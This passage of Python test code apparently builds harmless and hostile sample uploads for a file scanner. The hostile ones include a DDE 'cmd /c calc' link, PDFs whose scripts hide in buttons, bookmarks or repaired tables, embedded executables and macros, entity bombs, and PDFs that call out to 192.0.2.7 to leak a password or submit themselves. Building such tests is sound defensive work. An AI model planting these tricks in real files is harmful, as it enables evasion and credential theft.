_add("harmless-jpeg-xmp", "photo.jpg", JPEG, _with_xmp, "clean", "with a packet of metadata in XML, as most have")
_add("harmless-jpeg-cmyk", "photo.jpg", JPEG, lambda: _drawn("JPEG", "CMYK"), "clean", "from a print shop")
_add("harmless-jpeg-grey", "photo.jpg", JPEG, lambda: _drawn("JPEG", "L"), "clean", "black and white")
_add("harmless-jpeg-second", "photo.jpg", JPEG, lambda: photograph() + photograph(width=320, height=240), "clean",
     "with a small one behind, as telephones write (CIPA DC-007)")  # fmt: skip
_add("harmless-jpeg-motion", "PXL_20240510.MP.jpg", JPEG, lambda: photograph() + b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(2_000), "clean",
     "with a moment of film behind, as telephones write by default")  # fmt: skip
_add("harmless-jpeg-padded", "photo.jpg", JPEG, lambda: photograph() + bytes(300), "clean", "with zeros behind, as cameras write")
_add("harmless-jpeg-48-megapixels", "IMG_4417.jpg", JPEG, lambda: photograph(width=8064, height=6048, quality=50), "clean",
     "as large as today's telephones take", heavy=True)  # fmt: skip
_add("harmless-png", "screenshot.png", PNG, lambda: _drawn("PNG"), "clean", "a screenshot")
_add("harmless-png-alpha", "screenshot.png", PNG, lambda: _drawn("PNG", "RGBA"), "clean", "a screenshot with transparency")
_add("harmless-tiff", "fax.tif", TIFF, _fax, "clean", "a fax of three pages")
_add("harmless-gif", "logo.gif", GIF, lambda: _drawn("GIF", "P"), "clean", "a still picture")
_add("harmless-webp", "photo.webp", "image/webp", lambda: _drawn("WEBP"), "clean", "a picture from the web")
_add("harmless-bmp", "scan.bmp", "image/bmp", lambda: _drawn("BMP"), "clean", "a picture from an old scanner")
_add("harmless-text", "notes.txt", TEXT, lambda: "Señora: no llega mi reembolso.\n".encode(), "clean", "text in UTF-8")
_add("harmless-text-latin", "notes.txt", TEXT, lambda: "Señora Núñez, mi año 2022 está mal.\r\n".encode("latin-1"), "clean", "text in Latin-1")
_add("harmless-text-windows", "notes.txt", TEXT, lambda: "The IRS said “next week” – again…\r\n".encode("cp1252"), "clean", "text of old Windows")
_add("harmless-text-utf16", "notes.txt", TEXT, lambda: "El año pasado\r\n".encode("utf-16"), "clean", "text of Notepad's «Unicode»")
_add("harmless-text-mark", "notes.txt", TEXT, lambda: "\ufeffEl año pasado\r\n".encode(), "clean", "text with a mark before")
_add("harmless-text-mz", "notes.txt", TEXT, lambda: b"MZ Enterprises paid me in cash for all of 2022.\n", "clean", "begins as a program does")
_add("harmless-text-bm", "notes.txt", TEXT, lambda: b"BMW lease 3/2022, $411 a month. Rent $950.\n", "clean", "begins as a picture does")
_add("harmless-text-pk", "notes.txt", TEXT, lambda: b"PK Wholesale, 12 Main St: the employer who has closed.\n", "clean", "begins as an archive does")
_add("harmless-text-hash", "notes.txt", TEXT, lambda: b"#1 call the bank\n#2 call my mother!\n", "clean", "begins nearly as a script does")
_add("harmless-text-tags", "notes.txt", TEXT, lambda: b"They owe me < $500 and > $400, see <letter>.\n", "clean", "angle brackets")
_add("harmless-text-long", "notes.txt", TEXT, lambda: b"Called TAS, waited 40 minutes.\n" * 20_000, "clean", "long and always the same")
_add("harmless-text-empty", "notes.txt", TEXT, lambda: b"", "bounded", "nothing in it")
_add("harmless-csv", "transactions.csv", CSV, lambda: "fecha;monto\n2024-03-01;1.204,17\n".encode(), "clean", "a bank's table")
_add("harmless-csv-excel", "transactions.csv", XLS, lambda: b"date,amount\r\n2024-03-01,\"1,204.17\"\r\n", "clean",
     "a table as Windows calls it where Excel is installed")  # fmt: skip
_add("harmless-docx", "letter.docx", DOCX, docx, "clean", "a document")
_add("harmless-docx-octets", "letter.docx", UNKNOWN, docx, "clean", "a document where no Word is installed")
_add("harmless-docx-picture", "letter.docx", DOCX, lambda: docx_with({"word/media/image1.png": png(30, 30)}), "clean", "with a picture")
_add("harmless-docx-link", "letter.docx", DOCX,
     lambda: docx_with({"word/_rels/document.xml.rels": _relations(("hyperlink", "https://www.irs.gov"), external=True)}), "clean", "with a link")  # fmt: skip
_add("harmless-docx-white", "letter.docx", DOCX,
     lambda: zip_of(docx_files("The IRS has not answered. " * 40_000)), "clean", "long and always the same, so it packs well")  # fmt: skip
_add("harmless-xlsx", "budget.xlsx", XLSX, lambda: zip_of(xlsx_files()), "clean", "a workbook")
_add("harmless-xlsx-printer", "budget.xlsx", XLSX,
     lambda: zip_of(xlsx_files() | {"xl/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le") + bytes(300)}), "clean",
     "with a printer's settings, as Excel writes")  # fmt: skip
_add("harmless-odt", "letter.odt", "application/vnd.oasis.opendocument.text",
     lambda: archive([Member(b"mimetype", b"application/vnd.oasis.opendocument.text", method=0),
                      Member(b"content.xml", b"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"),
                      Member(b"META-INF/manifest.xml", b"<manifest:manifest xmlns:manifest='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'/>")]),
     "clean", "an open document")  # fmt: skip
_add("harmless-rtf", "letter.rtf", RTF, lambda: rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 Dear advocate,\par my refund.}", "clean", "rich text")
_add("harmless-doc", "letter.doc", DOC, word_document, "clean", "an old document")
_add("harmless-xls", "budget.xls", XLS, lambda: ole({"Workbook": b"\x09\x08\x10\0\0\6\5\0"}), "clean", "an old workbook")
_add("harmless-zip", "papers.zip", ZIP, lambda: zip_of({"page 1.pdf": pdf.ordinary("Page 1"), "page 2.pdf": pdf.ordinary("Page 2")}), "clean",
     "two PDFs in an archive")  # fmt: skip
_add("harmless-zip-windows", "papers.zip", "application/x-zip-compressed", lambda: zip_of({"page 1.pdf": pdf.ordinary()}), "clean",
     "a type as Windows says it")  # fmt: skip
_add("harmless-zip-mac", "Papers.zip", ZIP, _mac_zip, "clean", "as macOS makes them")
_add("harmless-zip-photos", "fotos.zip", ZIP, lambda: zip_of({f"IMG_{n}.jpg": photograph(quality=60 + n) for n in range(12)}, stored=True), "clean",
     "twelve photographs in an archive")  # fmt: skip
_add("harmless-zip-docx", "papers.zip", ZIP, lambda: zip_of({"letter.docx": docx(), "budget.xlsx": zip_of(xlsx_files())}), "clean",
     "documents in an archive, which are archives themselves")  # fmt: skip


# --- A second round ----------------------------------------------------------------------------------------------------


def _odt(more: dict[str, bytes], kind: str = "text") -> bytes:
    mime = f"application/vnd.oasis.opendocument.{kind}".encode()
    content = b"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"
    manifest = b"<manifest:manifest xmlns:manifest='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'/>"
    files = {"content.xml": content, **more, "META-INF/manifest.xml": manifest}
    return archive([Member(b"mimetype", mime, method=0), *(Member(name.encode(), data) for name, data in files.items())])


def _odt_encrypted() -> bytes:
    manifest = (
        b"<manifest:manifest xmlns:manifest='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'>"
        b"<manifest:file-entry manifest:full-path='content.xml' manifest:size='100'><manifest:encryption-data manifest:checksum='x'>"
        b"<manifest:algorithm manifest:algorithm-name='http://www.w3.org/2001/04/xmlenc#aes256-cbc'/></manifest:encryption-data>"
        b"</manifest:file-entry></manifest:manifest>"
    )
    return archive([
        Member(b"mimetype", b"application/vnd.oasis.opendocument.text", method=0),
        Member(b"content.xml", _noise(400), method=0),
        Member(b"META-INF/manifest.xml", manifest),
    ])  # fmt: skip


def _changed_later(more: bytes) -> bytes:
    """An honest PDF with a change behind it that gives the catalogue anew."""
    before = pdf.ordinary()
    table = len(before) + len(more)
    return before + more + (
        b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(before), before.rindex(b"xref\n0"), table)
    )


ODT = "application/vnd.oasis.opendocument.text"
_add("odt-basic", "letter.odt", ODT, lambda: _odt({"Basic/Standard/Module1.xml": b"<script:module/>", "Basic/script-lc.xml": b"<x/>"}),
     "rejected", "an open document with macros")  # fmt: skip
_add("odt-python", "letter.odt", ODT, lambda: _odt({"Scripts/python/run.py": b"import os"}), "rejected", "an open document with a script")
_add("ods-basic-as-xlsx", "budget.xlsx", XLSX, lambda: _odt({"Basic/Standard/Module1.xml": b"<script:module/>"}, "spreadsheet"), "never_clean",
     "an open workbook with macros, called .xlsx")  # fmt: skip
_add("odt-object", "letter.odt", ODT, lambda: _odt({"Object 1": ole({"\x01Ole10Native": portable_executable()})}), "never_clean",
     "a program packed into an open document")  # fmt: skip
_add("odt-encrypted", "letter.odt", ODT, _odt_encrypted, "unscannable", "an open document with a password")
_add("odt-dtd", "letter.odt", ODT, lambda: _odt({"styles.xml": _billion_laughs()}), "never_clean", "entities that grow, in a side file")
_add("onenote", "notes.one", UNKNOWN, lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(500), "never_clean",
     "a notebook, which may hold programs")  # fmt: skip
_add("onenote-as-pdf", "notes.pdf", PDF, lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(500), "never_clean", "called .pdf")
_add("access-database", "list.doc", DOC, lambda: b"\0\1\0\0Standard Jet DB\0" + bytes(500), "never_clean", "a database with macros, called .doc")
_add("word-2003-xml", "letter.doc", DOC,
     lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/'
     b'2003/wordml" w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">QWN0aXZlTWltZQ==</w:binData></w:docSuppData>'
     b"</w:wordDocument>", "never_clean", "Word's old XML with macros, called .doc")  # fmt: skip
_add("docx-altchunk", "letter.docx", DOCX, lambda: docx_with({"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n" + _HTML}), "never_clean",
     "a web page that Word takes in")  # fmt: skip
_add("docx-nested-macro", "letter.docx", DOCX, lambda: docx_with({"word/embeddings/oleObject1.bin": vba_project()}), "never_clean",
     "a macro project embedded")  # fmt: skip
_add("docx-two-documents", "letter.docx", DOCX,
     lambda: archive([*(Member(name.encode(), data) for name, data in docx_files().items()),
                      Member(b"word/document.xml", _billion_laughs())]), "never_clean", "two parts of one name")  # fmt: skip
_add("docx-backslash-part", "letter.docx", DOCX, lambda: docx_with({"word\\vbaProject.bin": vba_project()}), "never_clean",
     "a macro project behind a backslash")  # fmt: skip
_add("xlsx-dde", "budget.xlsx", XLSX,
     lambda: zip_of(xlsx_files() | {"xl/externalLinks/externalLink1.xml": (f'{_XML}<externalLink xmlns="{_SHEET}"><ddeLink ddeService="cmd" '
                                                                       'ddeTopic="/c calc"/></externalLink>').encode()}),
     "never_clean", "starts a program by DDE")  # fmt: skip
_add("pdf-script-later", "notice.pdf", PDF,
     lambda: _changed_later(f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {_ALERT} >>\nendobj\n".encode()), "never_clean",
     "a script that a later change brings in")  # fmt: skip
_add("pdf-script-of-field", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: f"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 612 792] /P 3 0 R /A {_ALERT} >>".encode()},
                              catalogue="/AcroForm << /Fields [8 0 R] >>", page="/Annots [8 0 R]"), "never_clean", "a button with a script")  # fmt: skip
_add("pdf-script-next", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{_ALERT}] >>"), "never_clean",
     "a script behind a harmless action")  # fmt: skip
_add("pdf-script-of-outline", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>", 9: f"<< /Title (a) /Parent 8 0 R /A {_ALERT} >>".encode()},
                              catalogue="/Outlines 8 0 R"), "never_clean", "a bookmark with a script")  # fmt: skip
_add("pdf-script-indirect-name", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: b"/JavaScript", 9: b"(app.alert\\(1\\))"}, catalogue="/OpenAction << /S 8 0 R /JS 9 0 R >>"), "never_clean",
     "a script whose very kind stands elsewhere")  # fmt: skip
_add("pdf-remote", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.7\\\\s\\\\x.pdf) /D [0 /Fit] >>"), "never_clean",
     "opens a file on a stranger's server, which sends the reader's password")  # fmt: skip
_add("pdf-submits", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/OpenAction << /S /SubmitForm /F (http://192.0.2.7/) >>"), "never_clean", "sends itself at opening")  # fmt: skip
_add("pdf-opens-link", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/OpenAction << /S /URI /URI (http://192.0.2.7/) >>"), "never_clean", "opens a page at opening")  # fmt: skip
_add("pdf-associated-exe", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: b"<< /Type /Filespec /F (run.exe) /EF << /F 9 0 R >> >>", 9: pdf.stream(portable_executable())},
                              catalogue="/AF [8 0 R]"), "never_clean", "a program as an associated file")  # fmt: skip
_add("pdf-rich-media", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: b"<< /Type /Filespec /F (a.swf) /EF << /F 9 0 R >> >>", 9: pdf.stream(b"CWS\x0a" + bytes(50))},
                              page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names "
                                   "[(a) 8 0 R] >> >> >>]"), "never_clean", "a Flash film on a page")  # fmt: skip
_add("pdf-xfa-script", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: pdf.flate(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script contentType='application/x-javascript'>"
                                            b"app.alert(1)</script></template></xdp:xdp>")},
                              catalogue="/AcroForm << /XFA 8 0 R /Fields [] >>"), "bounded", "a form in XML with a script, as agencies make them")  # fmt: skip
_add("pdf-no-table", "notice.pdf", PDF,
     lambda: (lambda made: made[: made.rindex(b"xref\n0")] + b"trailer << /Root 1 0 R >>\n")(
         pdf.with_objects({}, catalogue=f"/OpenAction {_ALERT}")), "never_clean", "a script in a file whose table is gone: readers repair it")  # fmt: skip
_add("pdf-crooked-table", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue=f"/OpenAction {_ALERT}").replace(b"startxref\n", b"startxref\n9"), "never_clean",
     "a script in a file whose table is elsewhere: readers repair it")  # fmt: skip
_add("pdf-head-late", "notice.pdf", PDF, lambda: bytes(700) + pdf.with_objects({}, catalogue=f"/OpenAction {_ALERT}"), "never_clean",
     "a script in a file that begins with 700 zeros")  # fmt: skip
_add("text-control", "notes.txt", TEXT, lambda: b"Dear advocate\0\1\2\3\4" * 50, "never_clean", "text with control characters within")
_add("html-utf16-as-text", "letter.txt", TEXT, lambda: _HTML.decode().encode("utf-16"), "never_clean", "HTML in UTF-16 called .txt")
_add("html-behind-lines", "letter.txt", TEXT, lambda: b"\n" * 3_000 + _HTML, "never_clean", "HTML behind three thousand empty lines")
_add("html-as-csv", "list.csv", CSV, lambda: _HTML, "never_clean", "HTML called .csv")
_add("shebang-utf16", "notes.txt", TEXT, lambda: "#!/bin/sh\nid\n".encode("utf-16"), "bounded", "no system runs it so")
_add("jpeg-of-size-0", "photo.jpg", JPEG, lambda: _jpeg_head(0, 0) + b"\x00\xff\xd9", "never_clean", "no pixels at all")
_add("png-apng", "photo.png", PNG,
     lambda: png(8, 8, more=png_chunk(b"acTL", struct.pack(">II", 0x7FFFFFFF, 0))), "bounded", "says it has two thousand million frames")  # fmt: skip
_add("jpeg-progressive-bomb", "photo.jpg", JPEG,
     lambda: (lambda made: made[:-2] + made[made.rindex(b"\xff\xda"):-2] * 4_000 + b"\xff\xd9")(photograph(progressive=True, quality=20)), "bounded",
     "thousands of scans of one picture", heavy=True)  # fmt: skip
_add("heic-harmless", "photo.heic", "image/heic", lambda: (_SAMPLES / "letter.heic").read_bytes(), "clean", "a telephone's photograph")
_add("heic-as-jpg", "IMG_0001.jpg", JPEG, lambda: (_SAMPLES / "letter.heic").read_bytes(), "bounded",
     "a telephone's photograph, called .jpg by a messenger: better clean")  # fmt: skip
_add("png-as-jpg", "IMG_0001.jpg", JPEG, lambda: png(30, 30), "bounded", "a picture called by another picture's name: better clean")
_add("webp-as-jpg", "IMG_0001.jpg", JPEG, lambda: _drawn("WEBP"), "bounded", "a picture from the web, called .jpg: better clean")
_add("harmless-pdf-tagged", "letter.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/MarkInfo << /Marked true >> /Lang (es-US) /OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines"),
     "clean", "opens at its first page, as most programs write")  # fmt: skip
_add("harmless-pdf-goto", "letter.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), "clean", "opens at its first page, as an action")  # fmt: skip
_add("harmless-pdf-print", "letter.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/OpenAction << /S /Named /N /Print >>"), "bounded", "asks to be printed when it is opened")  # fmt: skip
_add("harmless-pdf-signed", "letter.pdf", PDF,
     lambda: pdf.with_objects({8: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /V 9 0 R /Rect [0 0 9 9] /P 3 0 R >>",
                               9: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1 2 3] /Contents <3080> >>"},
                              catalogue="/AcroForm << /Fields [8 0 R] /SigFlags 3 >>", page="/Annots [8 0 R]"), "clean", "signed electronically")  # fmt: skip
_add("harmless-pdf-format-script", "f911.pdf", PDF,
     lambda: pdf.with_objects({8: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ssn) /Rect [60 600 300 620] /P 3 0 R /AA << /F << /S /JavaScript "
                                  b"/JS (AFSpecial_Format\\(3\\);) >> /K << /S /JavaScript /JS (AFSpecial_Keystroke\\(3\\);) >> >> >>"},
                              catalogue="/AcroForm << /Fields [8 0 R] >>", page="/Annots [8 0 R]"), "bounded",
     "a field that puts hyphens into a number, as agencies' own fillable forms have it: refusing it refuses their forms")  # fmt: skip
_add("harmless-pdf-in-pdf", "portfolio.pdf", PDF, lambda: _pdf_with_file("page 2.pdf", pdf.ordinary()), "bounded", "a PDF attached to a PDF")
_add("harmless-docx-object-picture", "letter.docx", DOCX,
     lambda: docx_with({"word/media/image1.jpeg": photograph(), "word/media/image2.emf": b"\1\0\0\0" + bytes(36) + b" EMF" + bytes(60),
                        "docProps/thumbnail.jpeg": photograph()}), "clean", "with pictures of several kinds")  # fmt: skip
_add("harmless-docx-template", "letter.docx", DOCX,
     lambda: docx_with({"word/settings.xml": b"<w:settings xmlns:w='" + _WORD.encode() + b"'/>",
                        "word/_rels/settings.xml.rels": _relations(("attachedTemplate", "file:///C:/Users/ana/Templates/Letter.dotx"), external=True)}),
     "bounded", "written from a template on the writer's own disk, as many are: better clean")  # fmt: skip
_add("harmless-xlsx-chart", "budget.xlsx", XLSX,
     lambda: zip_of(xlsx_files() | {"xl/embeddings/oleObject1.bin": ole({"CONTENTS": b"x"})}), "bounded", "an embedded object of no known kind")  # fmt: skip
_add("harmless-zip-empty", "papers.zip", ZIP, lambda: zip_of({}), "bounded", "an empty archive")
_add("harmless-zip-descriptors", "papers.zip", ZIP, lambda: _zip_streamed(), "clean", "written to a pipe, sizes behind, as macOS and servers write")
_add("harmless-zip-zip64", "papers.zip", ZIP, lambda: archive([Member(b"page.pdf", pdf.ordinary())], zip64=True), "clean",
     "with a 64-bit end, as some programs always write")  # fmt: skip
_add("harmless-zip-latin-names", "papers.zip", ZIP,
     lambda: archive([Member("declaraci\u00f3n.pdf".encode("cp437"), pdf.ordinary(), flags=0)]), "clean", "names as old Windows writes them")  # fmt: skip
_add("harmless-zip-mixed", "papers.zip", ZIP,
     lambda: zip_of({"a/": b"", "a/carta.txt": b"hola", "a/foto.jpg": photograph(), "b/data.csv": b"a,b\n", "b/l.docx": docx()}), "clean",
     "all kinds in folders")  # fmt: skip


def _zip_streamed() -> bytes:
    import zipfile  # noqa: PLC0415

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.out = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, data: object) -> int:
            self.out += bytes(data)  # type: ignore[call-overload]
            return len(bytes(data))  # type: ignore[call-overload]

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as made:
        for number in (1, 2):
            made.writestr(zipfile.ZipInfo(f"page {number}.pdf", (2024, 3, 11, 10, 22, 0)), pdf.ordinary(f"Page {number}"), zipfile.ZIP_DEFLATED)
    return bytes(pipe.out)


def by_key(key: str) -> Example:
    return next(each for each in EXAMPLES if each.key == key)
